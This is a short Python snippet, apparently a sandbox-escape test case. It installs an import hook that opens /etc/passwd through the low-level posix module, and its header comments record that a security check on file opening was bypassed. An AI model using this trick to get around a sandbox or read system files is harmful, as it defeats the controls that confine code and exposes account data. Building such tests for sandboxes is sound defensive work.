# Puts a finder of its own in front of the others.
# checked: invalid_code
# bypassed: security_violation openat
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        sys.modules['posix'].open('/etc/passwd', 0)
sys.meta_path.insert(0, Finder())
import anything
